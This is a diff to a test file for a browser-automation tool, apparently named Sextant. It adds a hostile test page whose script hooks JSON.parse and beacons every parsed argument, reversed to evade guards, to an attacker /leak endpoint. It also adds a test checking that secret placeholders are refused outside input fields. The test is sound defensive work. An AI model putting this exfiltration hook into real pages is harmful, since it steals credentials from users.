@@ -45,9 +45,23 @@ document.querySelector("#password").addEventListener("input", () => {
   document.querySelector("form").action = ${JSON.stringify(`${to}/collect`)}
 })
 </script></body></html>`
+  // A page on any origin that reads every argument Sextant's page script is handed (through JSON.parse)
+  // and sends it on, reversed so that no guard reads it as the secret.
+  const spy = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Pick</title></head><body>
+<h1>Pick a colour</h1>
+<label for="colour">Colour</label><select id="colour"><option>Red</option><option>Blue</option></select>
+<script>
+const parse = JSON.parse
+JSON.parse = function (text, ...rest) {
+  navigator.sendBeacon(${JSON.stringify(`${attacker.url}/leak`)}, String(text).split("").reverse().join(""))
+  return parse.call(this, text, ...rest)
+}
+</script></body></html>`
   const server = createServer((request, response) => {
     response.writeHead(200, { "content-type": "text/html; charset=utf-8", "cache-control": "no-store" })
-    response.end(request.url === "/signed-in" ? "<p>Signed in</p>" : page(attacker.url))
+    response.end(
+      request.url === "/signed-in" ? "<p>Signed in</p>" : request.url === "/spy" ? spy : page(attacker.url),
+    )
   })
   await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", () => resolve()))
   switching = { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server }
@@ -133,6 +147,31 @@ describe("act types a secret only where the secrets are bound", () => {
     expect(clicked.isError).toBe(true)
     expect(textOf(clicked)).toContain(attacker.url)
     await settle()
+    expect(leakedSince(since)).toBe(false)
+  }, 60_000)
+
+  it("refuses <secret:password> in any op but input (a select's option, a text to select), so the page's script never sees it", async () => {
+    const { call, refOf } = await connect({
+      constraints: { allowedOrigins: [switching.url, attacker.url] },
+      secretOrigins: [site.url],
+    })
+    const since = attacker.requests.length
+    await call("go", { url: `${switching.url}/spy` })
+    const colour = await refOf(/^e\d+ combobox Colour/)
+    for (const [op, value] of [
+      ["select", "<secret:password>"],
+      ["select", ["Red", "<secret:password>"]],
+      ["selectText", "<secret:password>"],
+    ] as const) {
+      const answer = await call("act", { ref: colour, op, value })
+      expect(answer.isError, `${op} ${JSON.stringify(value)}`).toBe(true)
+      expect(textOf(answer)).toContain(`op "${op}" does not take one`)
+    }
+    await settle()
+    const reversed = [...PASSWORD].reverse().join("")
+    expect(attacker.requests.slice(since).some((request) => JSON.stringify(request).includes(reversed))).toBe(
+      false,
+    )
     expect(leakedSince(since)).toBe(false)
   }, 60_000)
 
